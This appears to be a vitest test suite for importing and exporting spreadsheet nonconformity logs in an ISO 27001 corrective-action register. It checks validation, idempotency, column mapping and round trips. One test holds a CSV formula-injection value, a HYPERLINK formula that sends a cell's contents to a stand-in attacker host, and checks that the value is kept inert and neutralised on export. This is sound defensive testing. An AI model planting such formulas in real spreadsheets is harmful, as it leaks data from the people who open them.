import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { type CorrectiveAction, type Finding, formatCapaError, iso27001, type Actor } from '../../../src/index.js';
import { ForbiddenError } from '../../../src/errors/store-errors.js';
import { exportCsv } from '../../../src/log/csv/export.js';
import { checkCsvImport, IMPORT_NAMESPACE, ImportedFrom, importCsv } from '../../../src/log/csv/import.js';
import { CsvImportError } from '../../../src/log/csv/import-error.js';
import { CapaValidationError } from '../../../src/errors/validation-error.js';
import { type CapaStore, createCapaRegister, memoryStore } from '../../../src/register/index.js';
import { buildDataset, logLines } from '../reports/support/dataset.js';
import { PAYLOADS } from './support/payloads.js';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url));
const NOW = new Date('2026-11-22T09:00:00Z');
const clock = () => NOW;
const lee: Actor = { id: 'u-lee', name: 'Lee Park', roles: ['isms-manager'] };

function registerOn(store: CapaStore = memoryStore(), authorize?: () => boolean) {
  return createCapaRegister({ store, policy: iso27001, tenant: 'acme', clock, ...(authorize === undefined ? {} : { authorize }) });
}

async function eventCount(store: CapaStore, tenant = 'acme'): Promise<number> {
  let count = 0;
  for (let after = 0; ; ) {
    const page = await store.readTenantEvents(tenant, after, 1000);
    if (page.length === 0) return count;
    count += page.length;
    after = page.at(-1)!.tenantSequence;
  }
}

const options = { actor: lee, source: 'nc-log-2025.csv', dates: 'day-first', clock } as const;

describe('importCsv: a realistic spreadsheet log (BOM, CRLF, quotes, line breaks in cells, formula-looking cells, a blank row)', () => {
  it('raises one finding per row, carried as far as the lifecycle allows, never closed', async () => {
    const register = registerOn();
    const result = await importCsv(fixture('nc-log-2025.csv'), { register, ...options });
    expect(result.rows).toBe(5);
    expect(result.dryRun).toBe(false);
    expect(result.problems).toEqual([]);
    expect(result.imported.map((row) => [row.row, row.originalReference, row.reference, row.status])).toEqual([
      [2, 'NC-01', 'NC-2026-0001', 'planning'],
      [3, 'NC-02', 'NC-2026-0002', 'investigating'],
      [4, 'NC-03', 'NC-2026-0003', 'monitoring'],
      [5, 'NC-04', 'NC-2026-0004', 'investigating'],
      [6, 'NC-05', 'NC-2026-0005', 'logged'],
    ]);

    const nc01 = await register.get(result.imported[0]!.findingId!);
    expect(nc01).toMatchObject({
      title: 'Leavers kept active accounts for weeks',
      description: 'Two leavers kept active directory accounts for 3 and 5 weeks.\nFound in the January sample of 12 departures.',
      grade: 'minor',
      requirement: { kind: 'standard', framework: 'ISO/IEC 27001:2022', reference: 'A.5.18' },
      source: { kind: 'internal-audit', reference: 'IA-2025-01' },
      owner: { id: 'sam-okafor', name: 'Sam Okafor' },
      raisedBy: { id: 'u-lee', name: 'Lee Park' },
      detectedAt: '2025-01-14T00:00:00Z',
      raisedAt: '2026-11-22T09:00:00.000Z',
      dueDate: '2026-01-14',
      correction: { kind: 'performed', completedAt: '2025-01-15T00:00:00Z' },
      rootCause: { category: 'process', method: 'other', extentOfCondition: { result: 'All 41 departures of 2024 checked; one more contractor account found and disabled' } },
      closure: null,
      effectivenessReviews: [],
    });
    const actions = await Promise.all(nc01.correctiveActionIds.map((id) => register.getAction(id)));
    expect(actions.map((a) => [a.description, a.owner?.name, a.dueDate, a.status])).toEqual([
      ['Add an IT confirmation step within 24 hours of each departure', 'Sam Okafor', '2025-03-31', 'planned'],
      ['Monthly reconciliation of the HR leaver list and the directory', 'Lee Park', '2025-04-30', 'planned'],
    ]);
    expect(nc01.evidence.map((e) => [e.title, e.location])).toEqual([
      ['Closure evidence named in the spreadsheet log', 'Leaver procedure v4 (DOC-ISMS-012), reconciliation records Feb-May'],
    ]);
  });

  it('marks each finding as imported: provenance sealed into the RAISE entry, a comment saying what was not carried over', async () => {
    const register = registerOn();
    const result = await importCsv(fixture('nc-log-2025.csv'), { register, ...options });
    const id = result.imported[0]!.findingId!;
    const finding = await register.get(id);
    const origin = ImportedFrom.parse(finding.extensions[IMPORT_NAMESPACE]);
    expect(origin).toMatchObject({ importId: result.importId, source: 'nc-log-2025.csv', row: 2, line: 2, reference: 'NC-01', importedAt: NOW.toISOString() });
    expect(origin.cells['Notes']).toBe('Closed at the June ISMS meeting');
    expect(origin.cells['Status']).toBe('Closed');

    const history = await register.history(id);
    expect(history.map((entry) => entry.type)).toEqual(['RAISE', 'RECORD_CORRECTION', 'RECORD_ROOT_CAUSE', 'PLAN_ACTIONS', 'ATTACH_EVIDENCE', 'COMMENT']);
    expect(history.every((entry) => entry.actor.id === 'u-lee' && entry.at === NOW.toISOString())).toBe(true);
    expect((history[0]!.payload as { finding: { extensions: Record<string, unknown> } }).finding.extensions[IMPORT_NAMESPACE]).toEqual(origin);
    const note = (history.at(-1)!.payload as { text: string }).text;
    expect(note).toContain('Imported from the spreadsheet log "nc-log-2025.csv", row 2 (NC-01)');
    expect(note).toContain('The spreadsheet said: status "Closed", closed 2025-06-20, due 2026-01-14, raised by Ines Moreau.');
    expect(note).toContain('an import cannot vouch for them');
    expect(note).toContain('the effectiveness result "Effective"');
    expect((await register.verifyHistory()).ok).toBe(true);
  });

  it('gives every row the text line it starts on, with CRLF or LF line ends, across line breaks inside cells', async () => {
    const crlf = fixture('nc-log-2025.csv').toString('utf8');
    const lf = crlf.replace(/\r\n/g, '\n');
    expect(lf).not.toBe(crlf);
    const linesOf = async (text: string) => (await checkCsvImport(text, { register: registerOn(), ...options })).imported.map((row) => [row.row, row.line]);
    const expected = await linesOf(crlf);
    expect(await linesOf(lf)).toEqual(expected);
    // A cell with a line break makes the next row start further down than its row number.
    const starts = crlf.split(/\r\n|\r|\n/).map((line, i) => [line, i + 1] as const);
    for (const [row, line] of expected) {
      expect(starts.find(([, number]) => number === line)?.[0], `row ${row}`).toMatch(/^"?NC-\d+/);
    }
  });

  it('warns about everything it could not carry over, by row and column', async () => {
    const result = await importCsv(fixture('nc-log-2025.csv'), { register: registerOn(), ...options });
    expect(result.warnings.map((w) => [w.row, w.column, w.code])).toEqual([
      [1, null, 'column.unmapped'],
      [2, 'Status', 'status.notCarried'],
      [2, 'Effectiveness', 'effectiveness.notCarried'],
      [3, 'Corrective Action', 'lifecycle.stopped'],
      [4, 'Finding', 'cell.formulaLike'],
      [4, 'Description', 'cell.formulaLike'],
      [4, 'Objective Evidence', 'cell.formulaLike'],
      [6, 'Status', 'status.notCarried'],
    ]);
    const stopped = result.warnings.find((w) => w.code === 'lifecycle.stopped')!;
    expect(stopped.message).toContain('rootCause.notShallow');
    expect(stopped.message).toContain('rootCause.extentOfCondition');
    expect(result.warnings[0]!.message).toBe('Not mapped to a field (kept in each finding\'s import record): "Notes".');
  });

  it('keeps formula-looking cells as text and undoes an exporter\'s neutralising quote', async () => {
    const register = registerOn();
    const result = await importCsv(fixture('nc-log-2025.csv'), { register, ...options });
    const nc03 = await register.get(result.imported[2]!.findingId!);
    expect(nc03.title).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")');
    expect(nc03.grade).toBe('observation');
    expect(nc03.requirement).toEqual({ kind: 'standard', framework: 'ISO/IEC 27001:2022', reference: '9.1' });
    const nc05 = await register.get(result.imported[4]!.findingId!);
    expect(nc05.description).toBe('-Reduce manual steps in the offboarding checklist');
    const nc04 = await register.get(result.imported[3]!.findingId!);
    expect(nc04.requirement).toEqual({ kind: 'procedure', documentId: 'DOC-ISMS-007', version: '2', title: 'DOC-ISMS-007', reference: '3.1' });
    expect(nc04.correction).toMatchObject({ kind: 'not-applicable' });
    // Exported again, the formula is neutralised.
    const store = memoryStore();
    const reg2 = registerOn(store);
    await importCsv(fixture('nc-log-2025.csv'), { register: reg2, ...options });
    let csv = '';
    for await (const chunk of exportCsv(await logLines(store), { columns: ['title'] })) csv += chunk;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
  });

  it('imports the same file again without writing anything new (idempotency keys per row and step)', async () => {
    const store = memoryStore();
    const first = await importCsv(fixture('nc-log-2025.csv'), { register: registerOn(store), ...options });
    const events = await eventCount(store);
    const second = await importCsv(fixture('nc-log-2025.csv'), { register: registerOn(store), ...options });
    expect(await eventCount(store)).toBe(events);
    expect(second.imported.map((r) => r.findingId)).toEqual(first.imported.map((r) => r.findingId));
  });

  it('resumes an interrupted import where it stopped', async () => {
    const store = memoryStore();
    let allowed = 9;
    const flaky = registerOn(store, () => allowed-- > 0);
    const error = await importCsv(fixture('nc-log-2025.csv'), { register: flaky, ...options }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CsvImportError);
    const interrupted = error as CsvImportError;
    expect(interrupted.problems[0]!.code).toBe('import.interrupted');
    expect(interrupted.cause).toBeInstanceOf(ForbiddenError);
    expect(interrupted.imported.map((r) => r.originalReference)).toEqual(['NC-01']);
    const resumed = await importCsv(fixture('nc-log-2025.csv'), { register: registerOn(store), ...options });
    expect(resumed.imported).toHaveLength(5);
    expect((await registerOn(store).query({}, { limit: 100 })).findings).toHaveLength(5);
  });

  it('checks without writing', async () => {
    const store = memoryStore();
    const check = await checkCsvImport(fixture('nc-log-2025.csv'), { register: registerOn(store), ...options });
    expect(check.dryRun).toBe(true);
    expect(check.imported.map((r) => [r.originalReference, r.status, r.findingId])).toEqual([
      ['NC-01', 'planning', null],
      ['NC-02', 'investigating', null],
      ['NC-03', 'monitoring', null],
      ['NC-04', 'investigating', null],
      ['NC-05', 'logged', null],
    ]);
    expect(await eventCount(store)).toBe(0);
  });
});

describe('importCsv: bad rows', () => {
  it('refuses the whole import, naming every problem by row and column, and writes nothing', async () => {
    const store = memoryStore();
    const error = await importCsv(fixture('nc-log-bad.csv'), { register: registerOn(store), ...options }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CsvImportError);
    const problems = (error as CsvImportError).problems;
    expect(problems.map((p) => [p.row, p.column, p.code])).toEqual([
      [3, 'Date Raised', 'date.invalid'],
      [4, 'Severity', 'grade.unknown'],
      [5, 'Clause', 'requirement.unreadable'],
      [6, 'Owner', 'required'],
      [7, 'Date Raised', 'finding.detectedBeforeRaised'],
      [8, 'Finding', 'too_big'],
      [9, 'Correction Date', 'correction.afterDetection'],
      [10, 'NC Ref', 'reference.duplicate'],
      [11, 'Action Owner', 'actions.misaligned'],
      [11, 'Action Due', 'actions.misaligned'],
    ]);
    expect(await eventCount(store)).toBe(0);
    // The messages, pinned: what a person fixing the spreadsheet reads.
    expect(problems.map((p) => `row ${p.row}, ${p.column === null ? '-' : `"${p.column}"`}: ${p.message} (${p.code})`).join('\n')).toMatchInlineSnapshot(`
      "row 3, "Date Raised": "31/02/2025" is not a date written DD/MM/YYYY or YYYY-MM-DD. (date.invalid)
      row 4, "Severity": "Critical" is not a grade of policy iso27001 (major: Major nonconformity; minor: Minor nonconformity; observation: Observation; ofi: Opportunity for improvement; conformity: Conformity); map it with the grades option. (grade.unknown)
      row 5, "Clause": "Access control policy" is not a requirement the import can read: write "ISO/IEC 27001:2022 A.5.18", "A.5.18", "Clause 9.2" or a procedure "DOC-ISMS-012 v3 §4.2". (requirement.unreadable)
      row 6, "Owner": The owner is empty. (required)
      row 7, "Date Raised": In the finding: finding.detectedAt (2099-01-01T00:00:00Z) is after finding.raisedAt (2026-11-22T09:00:00.000Z): a finding cannot be detected after it was raised. (finding.detectedBeforeRaised)
      row 8, "Finding": In the finding: Too big: expected string to have <=200 characters (too_big)
      row 9, "Correction Date": In the correction: A correction cannot be completed before the nonconformity was detected. (correction.afterDetection)
      row 10, "NC Ref": The reference "NC-10" is also on row 2. (reference.duplicate)
      row 11, "Action Owner": 2 lines for 3 corrective actions: give one line per action, or one for all. (actions.misaligned)
      row 11, "Action Due": 2 lines for 3 corrective actions: give one line per action, or one for all. (actions.misaligned)"
    `);
    expect((error as CsvImportError).issues[0]!.path).toEqual(['rows', 3, 'Date Raised']);
    expect(formatCapaError(error as CsvImportError)).toContain('rows[3]["Date Raised"]');
  });

  it('imports the valid rows and reports the others with mode "valid-rows"', async () => {
    const result = await importCsv(fixture('nc-log-bad.csv'), { register: registerOn(), ...options, mode: 'valid-rows' });
    expect(result.imported.map((r) => r.row)).toEqual([2]);
    expect(result.skipped.map((s) => s.row)).toEqual([3, 4, 5, 6, 7, 8, 9, 10, 11]);
  });

  it('refuses a file that is not CSV, not UTF-8, or has no header', async () => {
    const register = registerOn();
    const code = async (csv: string | Uint8Array) => ((await importCsv(csv, { register, ...options }).catch((e: unknown) => e)) as CsvImportError).problems[0]!.code;
    expect(await code('Title,Grade\r\n"unclosed,minor\r\n')).toBe('csv.malformed');
    expect(await code(new Uint8Array([0x54, 0x69, 0x74, 0x6c, 0x65, 0x0d, 0x0a, 0xe9, 0x74, 0xe9]))).toBe('encoding.notUtf8');
    expect(await code('')).toBe('csv.empty');
  });
});

describe('importCsv: column mapping', () => {
  const csv = [
    'NC #;Found on;Type;Std;What;Who;Where',
    'X-1;2025-06-01;Cat 2;A.8.8;Patches late;Sam Okafor;Servers',
    'X-2;2025-06-03;Cat 1;A.8.8;Patches very late;"Okafor, Sam";Servers',
  ].join('\r\n');
  const mapping = { reference: 'NC #', detected: 'Found on', grade: 'Type', requirement: 'Std', title: 'What', owner: 'Who', process: 'Where' } as const;

  it('maps named columns, detects the separator, applies defaults and grade words', async () => {
    const result = await importCsv(csv, {
      register: registerOn(),
      actor: lee,
      clock,
      mapping,
      grades: { 'Cat 1': 'major', 'Cat 2': 'minor' },
      defaults: { observedEvidence: 'Not recorded in the spreadsheet log', source: 'Internal audit' },
    });
    expect(result.imported.map((r) => [r.originalReference, r.status])).toEqual([
      ['X-1', 'reported'],
      ['X-2', 'reported'],
    ]);
    expect(result.warnings).toEqual([]);
  });

  it('says which required fields have no column, and which mapped column is not there', async () => {
    const error = (await importCsv(csv, { register: registerOn(), actor: lee, clock, mapping: { ...mapping, asset: 'Asset tag' } }).catch((e: unknown) => e)) as CsvImportError;
    expect(error.problems.map((p) => [p.row, p.field, p.code])).toEqual([
      [1, 'asset', 'column.notFound'],
      [1, 'observedEvidence', 'column.missing'],
      [1, 'source', 'column.missing'],
      [2, 'grade', 'grade.unknown'],
      [3, 'grade', 'grade.unknown'],
    ]);
  });

  it('uses the people option to resolve names, and refuses names it does not know', async () => {
    const directory: Record<string, { id: string; name: string }> = { 'Sam Okafor': { id: 'u-sam', name: 'Sam Okafor' } };
    const error = (await importCsv(csv, {
      register: registerOn(),
      actor: lee,
      clock,
      mapping,
      grades: { 'Cat 1': 'major', 'Cat 2': 'minor' },
      defaults: { observedEvidence: 'Not recorded', source: 'Internal audit' },
      people: (name) => directory[name] ?? null,
    }).catch((e: unknown) => e)) as CsvImportError;
    expect(error.problems.map((p) => [p.row, p.column, p.code, p.value])).toEqual([[3, 'Who', 'person.unknown', 'Okafor, Sam']]);
  });
});

describe('importCsv: options', () => {
  it('refuses options that are not a register, an actor, or known words, before reading the file', async () => {
    const bad = async (options: object) => ((await importCsv('x', { actor: lee, register: registerOn(), ...options } as never).catch((e: unknown) => e)) as CapaValidationError).issues.map((i) => i.path.join('.'));
    expect(await bad({ register: {} })).toEqual(['register']);
    expect(await bad({ actor: { id: 'u-1' } })).toEqual(['actor.name', 'actor.roles']);
    expect(await bad({ dates: 'dmy' })).toEqual(['dates']);
    expect(await bad({ mapping: { colour: 'Colour' } })).toEqual(['mapping']);
    expect(await bad({ people: 'directory' })).toEqual(['people']);
  });

  it('reads tab-separated files', async () => {
    const tsv = ['Title\tGrade\tClause\tDate raised\tOwner\tEvidence\tSource\tProcess', 'Backups not tested\tMinor\tA.8.13\t2025-09-01\tSam Okafor\tRestore log empty\tInternal audit\tIT operations'].join('\n');
    const result = await importCsv(tsv, { register: registerOn(), actor: lee, clock });
    expect(result.imported.map((r) => r.status)).toEqual(['reported']);
  });
});

describe('round trip', () => {
  it('imports its own CSV export', async () => {
    const { store } = await buildDataset();
    let csv = '';
    for await (const chunk of exportCsv(await logLines(store), { bom: true })) csv += chunk;
    const register = registerOn();
    const result = await importCsv(csv, { register, actor: lee, clock, source: 'export.csv' });
    expect(result.problems).toEqual([]);
    const titles = (await register.query({}, { limit: 100 })).findings.map((f) => f.title).sort();
    const original = (await logLines(store)).flatMap((l) => (l.type === 'finding' ? [l.finding.title] : [])).sort();
    expect(titles).toEqual(original);
    // Closed findings come back open: an import never closes.
    expect(result.warnings.filter((w) => w.code === 'status.notCarried')).toHaveLength(6);
  });

  it("gives back every text exactly, a user's own leading apostrophe included (OWASP payloads in 13 text fields)", async () => {
    // Texts a record can hold (trimmed, not empty); an action cell holds one line per action.
    const texts = [...new Set(PAYLOADS.map((p) => p.text.trim()).filter((t) => t !== ''))];
    const oneLine = texts.filter((t) => !/[\r\n]/.test(t) && !/^\s*(?:[-•*·]|\d+[.)])\s+/.test(t));
    const at = (list: readonly string[], i: number) => list[i % list.length]!;
    const store = memoryStore();
    const source = registerOn(store);
    const raisedIds: string[] = [];
    for (let i = 0; i < texts.length; i += 1) {
      const owner = { id: `u-owner-${i}`, name: at(texts, i + 7) };
      const finding = await source.raise({
        actor: lee,
        finding: {
          title: at(texts, i),
          description: at(texts, i + 1),
          observedEvidence: at(texts, i + 2),
          source: { kind: 'internal-audit', reference: at(texts, i + 3) },
          requirement: { kind: 'standard', framework: 'ISO/IEC 27001:2022', reference: 'A.5.18', title: at(texts, i + 4) },
          affected: { process: at(texts, i + 5), asset: at(texts, i + 6) },
          grade: 'minor',
          owner,
          detectedAt: '2026-11-01T09:00:00Z',
        },
      });
      raisedIds.push(finding.id);
      await source.recordCorrection({ actor: lee, findingId: finding.id, correction: { schemaVersion: 1, kind: 'performed', description: at(texts, i + 8), performedBy: owner, completedAt: '2026-11-02T09:00:00Z' } });
      await source.recordRootCause({
        actor: lee,
        findingId: finding.id,
        rootCause: {
          schemaVersion: 1, method: 'process-review', whys: [], category: 'process', analysedBy: owner, analysedAt: '2026-11-03T09:00:00Z',
          statement: `${at(texts, i + 9)} because the leaver procedure names no owner for the IT step`,
          extentOfCondition: { scope: 'All departures of 2026', result: 'No other case found', linkedFindingIds: [] },
        },
      });
      await source.planActions({
        actor: lee,
        findingId: finding.id,
        actions: [{ description: at(oneLine, i + 10), measurableOutcome: at(oneLine, i + 11), owner: { id: `u-action-${i}`, name: at(oneLine, i + 12) }, dueDate: '2027-03-31' }],
      });
    }
    let csv = '';
    for await (const chunk of exportCsv(await logLines(store), { delimiter: ';' })) csv += chunk;

    const target = registerOn();
    const result = await importCsv(csv, { register: target, actor: lee, clock, source: 'export.csv', defaults: { extentScope: 'Recorded before the export' } });
    expect(result.problems).toEqual([]);
    const texts13 = (f: Finding, a: CorrectiveAction | undefined) => [
      f.title, f.description, f.observedEvidence, f.source.reference, f.requirement.kind === 'standard' ? f.requirement.title : null, f.affected.process, f.affected.asset, f.owner.name,
      f.correction?.kind === 'performed' ? f.correction.description : null, f.rootCause?.statement, a?.description, a?.measurableOutcome, a?.owner?.name,
    ];
    const originals = new Map<string, unknown[]>();
    for (const id of raisedIds) {
      const f = await source.get(id);
      originals.set(f.reference, texts13(f, await source.getAction(f.correctiveActionIds[0]!)));
    }
    expect(result.imported).toHaveLength(texts.length);
    for (const row of result.imported) {
      const f = await target.get(row.findingId!);
      expect(texts13(f, f.correctiveActionIds[0] === undefined ? undefined : await target.getAction(f.correctiveActionIds[0])), row.originalReference!).toEqual(originals.get(row.originalReference!));
    }
    // The apostrophes a user typed are among them.
    expect([...originals.values()].flat().filter((t) => typeof t === 'string' && /^'+[=+\-@]/.test(t)).length).toBeGreaterThanOrEqual(12);
  }, 60_000);
});
